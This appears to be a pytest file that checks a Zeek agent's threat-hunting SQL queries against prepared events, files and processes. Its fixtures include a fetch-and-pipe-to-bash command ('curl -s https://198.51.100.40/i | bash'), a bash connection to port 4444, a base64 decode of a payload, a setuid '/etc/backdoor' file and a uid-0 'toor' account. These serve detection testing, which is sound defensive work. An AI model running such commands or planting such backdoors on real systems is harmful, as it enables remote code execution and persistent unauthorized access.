"""The questions of docs/hunting.md, each answered from prepared events, files and processes."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Mapping
from pathlib import Path
from typing import Any, Final

import pytest
import pytest_asyncio
from places import ROOT
from recording import COLUMNS
from running_agent import RunningAgent, running
from waiting import until

from zeek_agent.events.store import EventStore
from zeek_agent.tables import builtin_tables

pytestmark = [pytest.mark.root, pytest.mark.skipif(sys.platform != "linux", reason="the tables are Linux's")]

PAGE: Final = (ROOT / "docs/hunting.md").read_text()
QUESTIONS: Final = dict(re.findall(r"^### (.+?)\n.*?```sql\n(.+?)```", PAGE, re.DOTALL | re.MULTILINE))
EXAMPLE_PID: Final = "4242"
"""In the page; here a process that cannot exist takes its place."""
NO_PROCESS: Final = 4_194_304
"""The kernel's upper limit of process ids, which none has."""
ALICE: Final = 47_110
HOUR: Final = 3600.0

Row = Mapping[str, Any]


def started(name: str, *, ago: float = 60.0, **columns: Any) -> tuple[str, Row]:
    """A process that started some seconds before the agent did."""
    own = {"state": "started", "name": name, "exe": f"/usr/bin/{name}", "cmdline": name, "uid": 1000, "pid": 0}
    return "processes_events", {"ago": ago, **own, **columns}


def stopped(name: str, duration: float, **columns: Any) -> tuple[str, Row]:
    return started(name, **({"state": "stopped", "duration": duration, "exit_code": 0} | columns))


def connected(process: str, remote: str, port: int, *, ago: float = 60.0, **columns: Any) -> tuple[str, Row]:
    """A connection that was established some seconds before the agent started."""
    own = {"state": "established", "direction": "outbound", "process": process, "exe": f"/usr/bin/{process}"}
    ends = {"remote_addr": remote, "remote_port": port, "local_addr": "192.0.2.10", "local_port": 40_000}
    rest = {"pid": 0, "uid": 1000, "protocol": 6, "family": "IPv4", "cookie": 1}
    return "sockets_events", {"ago": ago, **own, **ends, **rest, **columns}


EVENTS: Final = (
    connected("curl", "198.51.100.7", 443, local_port=51_324, cookie=10),
    connected("curl", "198.51.100.7", 443, local_port=51_325, cookie=11),
    connected("dig", "192.0.2.53", 53, community_id="1:hYBgWEQQ0fNUqYIZLaMMSrJhvQU="),
    *[connected("rsync", "203.0.113.5", 873) for _ in range(3)],
    connected("rsync", "203.0.113.6", 873, ago=2 * HOUR),
    connected("bash", "198.51.100.66", 4444, entity_id="shell"),
    connected("bash", "198.51.100.67", 22, direction="inbound"),
    *[connected("beacon", "198.51.100.9", 8443, ago=600 - 60 * turn, entity_id="b") for turn in range(8)],
    *[connected("browser", "198.51.100.9", 443, ago=600 - turn**3, entity_id="w") for turn in range(8)],
    *[connected("scan", f"203.0.112.{turn}", 22, entity_id="scan") for turn in range(101)],
    *[connected("agent", "192.0.2.99", 8080, state="failed") for _ in range(10)],
    connected("once", "192.0.2.98", 8080, state="failed"),
    connected("tunnel", "198.51.100.20", 22, ago=2 * HOUR, cookie=20),
    connected("done", "198.51.100.20", 22, ago=2 * HOUR, cookie=21),
    connected("done", "198.51.100.20", 22, ago=HOUR, cookie=21, state="closed"),
    connected("sshd", "203.0.113.200", 60_001, direction="inbound", local_port=22),
    connected("nginx", "203.0.113.200", 60_001, direction="inbound", local_port=80),
    stopped("dropper", 0.02, entity_id="dropper"),
    connected("dropper", "198.51.100.30", 80, entity_id="dropper"),
    stopped("server", 500.0, entity_id="server"),
    connected("server", "198.51.100.31", 80, entity_id="server"),
    started("id", parent_name="nginx", uid=33),
    started("php8.2", parent_name="php-fpm", exe="/usr/sbin/php-fpm8.2", uid=33),
    started("vi", uid=0, loginuid=ALICE, cmdline="vi /etc/hosts"),
    started("ls", uid=0, loginuid=0, cmdline="ls /root"),
    started("x", exe="/dev/shm/.x", cmdline="./.x"),
    started("tmpreaper", exe="/usr/sbin/tmpreaper", cmdline="tmpreaper /tmp"),
    started("new-tool", exe="/opt/new-tool", ago=30),
    started("old-tool", exe="/opt/old-tool", ago=2 * HOUR),
    started("old-tool", exe="/opt/old-tool", ago=30),
    stopped("parser", 3.0, exit_code=-11),
    stopped("sleep", 3.0, exit_code=-15),
    started("perl", cmdline="/usr/bin/perl -MIO -e 'print 1'"),
    started("perl", cmdline="perl script.pl -e"),
    started("sh", cmdline="sh -c 'curl -s https://198.51.100.40/i | bash'"),
    started("base64", cmdline="base64 -d payload"),
    started("base64", cmdline="base64 picture"),
    started("wget", ago=100, cmdline="wget https://198.51.100.50/tool", cwd="/home/bob"),
    started("tool", ago=80, exe="/home/bob/tool", cmdline="./tool", cwd="/home/bob"),
    started("late", ago=20, exe="/home/bob/late", cmdline="./late", cwd="/home/bob"),
    started("grandparent", ago=300, pid=NO_PROCESS - 2, entity_id="t1", cmdline="grandparent"),
    started("parent", ago=200, pid=NO_PROCESS - 1, ppid=NO_PROCESS - 2, entity_id="t2", parent_entity_id="t1"),
    started("child", ago=100, pid=NO_PROCESS, ppid=NO_PROCESS - 1, entity_id="t3", parent_entity_id="t2"),
    connected("miner", None, None, state="listen", local_port=3333),  # type: ignore[arg-type]
    connected("cups", None, None, state="listen", local_port=631, ago=2 * HOUR),  # type: ignore[arg-type]
    connected("tcpdump", None, None, state="listen", family="packet", local_addr=None, local_port=None),  # type: ignore[arg-type]
)

ANSWERS: Final[Mapping[str, tuple[list[Row], list[Row]]]] = {
    "Which program opened the connection that Zeek reported?": ([{"process": "curl"}], []),
    "Which program is behind a Community ID?": ([{"process": "dig"}], [{"process": "curl"}]),
    "Which programs connected to this network in the last hour?": (
        [{"process": "rsync", "remote_addr": "203.0.113.5", "connections": 3}],
        [{"remote_addr": "203.0.113.6"}, {"remote_addr": "198.51.100.7"}],
    ),
    "Which shells have a connection?": ([{"process": "bash", "remote_port": 4444}], [{"remote_port": 22}]),
    "Which process contacts one address again and again at the same interval?": (
        [{"process": "beacon", "times": 7, "interval": 60.0}],
        [{"process": "browser"}],
    ),
    "Which process tried many ports or many hosts?": ([{"process": "scan", "hosts": 101}], [{"process": "beacon"}]),
    "Which connections fail, and whose are they?": ([{"process": "agent", "failures": 10}], [{"process": "once"}]),
    "Which connections have been open for more than an hour?": ([{"process": "tunnel"}], [{"process": "done"}]),
    "Who logged in to the SSH server, and from where?": ([{"process": "sshd"}], [{"process": "nginx"}]),
    "Which short-lived processes made a connection?": ([{"name": "dropper"}], [{"name": "server"}]),
    "What did the web server start?": ([{"name": "id", "uid": 33}], [{"name": "php8.2"}]),
    "What did a user run, also after `su` or `sudo`?": ([{"cmdline": "vi /etc/hosts"}], [{"cmdline": "ls /root"}]),
    "Which commands ran as root for somebody else?": ([{"cmdline": "vi /etc/hosts"}], [{"cmdline": "ls /root"}]),
    "What ran from a directory that everyone can write to?": (
        [{"exe": "/dev/shm/.x"}],
        [{"exe": "/usr/sbin/tmpreaper"}],
    ),
    "Which programs ran in the last hour that did not run before?": (
        [{"exe": "/opt/new-tool"}],
        [{"exe": "/opt/old-tool"}],
    ),
    "Which programs crashed?": ([{"name": "parser"}], [{"name": "sleep"}]),
    "Which one-liners were given to an interpreter?": (
        [{"cmdline": "/usr/bin/perl -MIO -e 'print 1'"}, {"cmdline": "sh -c 'curl -s https://198.51.100.40/i | bash'"}],
        [{"cmdline": "perl script.pl -e"}],
    ),
    "Was something decoded and executed?": (
        [{"cmdline": "base64 -d payload"}, {"cmdline": "sh -c 'curl -s https://198.51.100.40/i | bash'"}],
        [{"cmdline": "base64 picture"}],
    ),
    "What was downloaded and executed by the same user within a minute?": (
        [{"exe": "/home/bob/tool"}],
        [{"exe": "/home/bob/late"}],
    ),
    "Which process started this one, and which one started that?": (
        [
            {"relation": "ancestor", "depth": 1, "name": "parent"},
            {"relation": "ancestor", "depth": 2, "name": "grandparent"},
        ],
        [],
    ),
    "Which running program was deleted or replaced on disk?": ([{"name": "deleted-program"}], [{"name": "hunted"}]),
    "Which processes look like kernel threads but are programs?": (
        [{"cmdline": "[kworker/0:1] 600"}],
        [{"name": "nginx"}, {"exe": None}],
    ),
    "What is the hash of what runs as this process?": ([{"name": "nginx"}], []),
    "What listens on addresses that others can reach?": ([{"port": 47_111}], [{"port": 47_112}]),
    "What began to listen in the last hour?": ([{"process": "miner"}], [{"process": "cups"}, {"process": "tcpdump"}]),
    "Who captures packets?": ([{"process": "tcpdump"}], [{"process": "miner"}]),
    "Which accounts have the rights of root?": ([{"name": "toor"}], [{"name": "root"}, {"name": "alice"}]),
    "Which keys may log in, and as whom?": (
        [{"path": "/home/alice/.ssh/authorized_keys", "number": 2}],
        [{"number": 1}],
    ),
    "Which files in /etc changed within a day?": ([{"path": "/etc/changed"}], [{"path": "/etc/unchanged"}]),
    "Which setuid programs are where no package puts them?": (
        [{"path": "/etc/backdoor", "mode": "4755"}, {"path": "/home/alice/tool", "mode": "2755"}],
        [{"path": "/etc/changed"}],
    ),
    "Which jobs does cron run?": ([{"path": "/etc/cron.d/job"}], []),
    "When did the agent not record?": ([{"source": "agent"}], []),
}
"""By question: rows that the answer contains, and rows that it does not contain."""


def test_each_question_has_an_answer_here() -> None:
    assert QUESTIONS.keys() == ANSWERS.keys()
    assert len(QUESTIONS) >= 30


def prepare_events(state: Path) -> None:
    """Fill an event store as an agent would have done before."""
    now = time.time()
    store = EventStore(state / "events.db", builtin_tables("linux"))
    for table, event in EVENTS:
        values: dict[str, Any] = {**event, "time": now - event["ago"]}
        store.append(table, [tuple(values.get(column) for column in COLUMNS[table])])
    assert store.flush()
    store.close()


SCENE: Final = """
import os, socket, sys, subprocess, time
place = sys.argv[1]
held = []
for address, port in (("0.0.0.0", 47111), ("127.0.0.1", 47112)):
    held.append(socket.create_server((address, port)))
for name in ("hunted", "deleted-program", "nginx"):
    held.append(subprocess.Popen([f"{place}/{name}", "600"]))
held.append(subprocess.Popen(["[kworker/0:1]", "600"], executable=f"{place}/hunted"))
time.sleep(0.5)
os.unlink(f"{place}/deleted-program")
print("ready", flush=True)
sys.stdin.read()
for one in held[2:]:
    one.kill()
"""


def prepare_files(agent: RunningAgent) -> None:
    """In the agent's mount namespace."""
    root = agent.root
    with (root / "etc/passwd").open("a") as accounts:
        accounts.write(f"alice:x:{ALICE}:{ALICE}::/home/alice:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n")
    keys = root / "home/alice/.ssh/authorized_keys"
    keys.parent.mkdir(parents=True)
    keys.write_text(
        "# alice's\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1hPQyLqgM2u0kL8h1bX0o5mW9c1P0m6m1Jb2o5T3fY alice\n"
    )
    keys.chmod(0o600)
    for path in (keys, keys.parent, keys.parent.parent):
        shutil.chown(path, ALICE, ALICE)
    for name, age in (("changed", 60.0), ("unchanged", 2 * 86_400.0), ("backdoor", 60.0)):
        file = root / "etc" / name
        file.write_text(name)
        agent.run_beside("touch", "-d", f"@{time.time() - age}", f"/etc/{name}")
    (root / "etc/backdoor").chmod(0o4755)
    (root / "home/alice/tool").write_text("tool")
    (root / "home/alice/tool").chmod(0o2755)
    (root / "etc/cron.d").mkdir(exist_ok=True)
    (root / "etc/cron.d/job").write_text("# every minute\n* * * * * root /usr/local/bin/job\n")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def hunted(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningAgent]:
    """An agent with the prepared events, files, processes and ports."""
    place = tmp_path_factory.mktemp("hunt")
    (place / "state").mkdir()
    prepare_events(place / "state")
    for name in ("hunted", "deleted-program", "nginx"):
        shutil.copy2(shutil.which("sleep") or "/bin/sleep", place / name)
    with subprocess.Popen(
        [sys.executable, "-c", SCENE, str(place)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    ) as scene:
        assert scene.stdout is not None
        assert scene.stdin is not None
        assert scene.stdout.readline() == "ready\n"
        async with running(place, private_files=True) as agent:
            prepare_files(agent)
            await until(lambda: agent.ask("SELECT name FROM users WHERE name = 'toor'"))
            yield agent
        scene.stdin.close()


@pytest.mark.long(kept=8)
@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("question", QUESTIONS)
async def test_the_statement_answers_the_question(question: str, hunted: RunningAgent) -> None:
    rows = await hunted.ask(QUESTIONS[question].replace(f"({EXAMPLE_PID})", f"({NO_PROCESS})"))
    expected, excluded = ANSWERS[question]
    for wanted in expected:
        assert any(_has(row, wanted) for row in rows), (wanted, rows)
    for unwanted in excluded:
        assert not any(_has(row, unwanted) for row in rows), (unwanted, rows)


def _has(row: Row, values: Row) -> bool:
    return all(
        row[name] == (pytest.approx(value) if isinstance(value, float) else value) for name, value in values.items()
    )
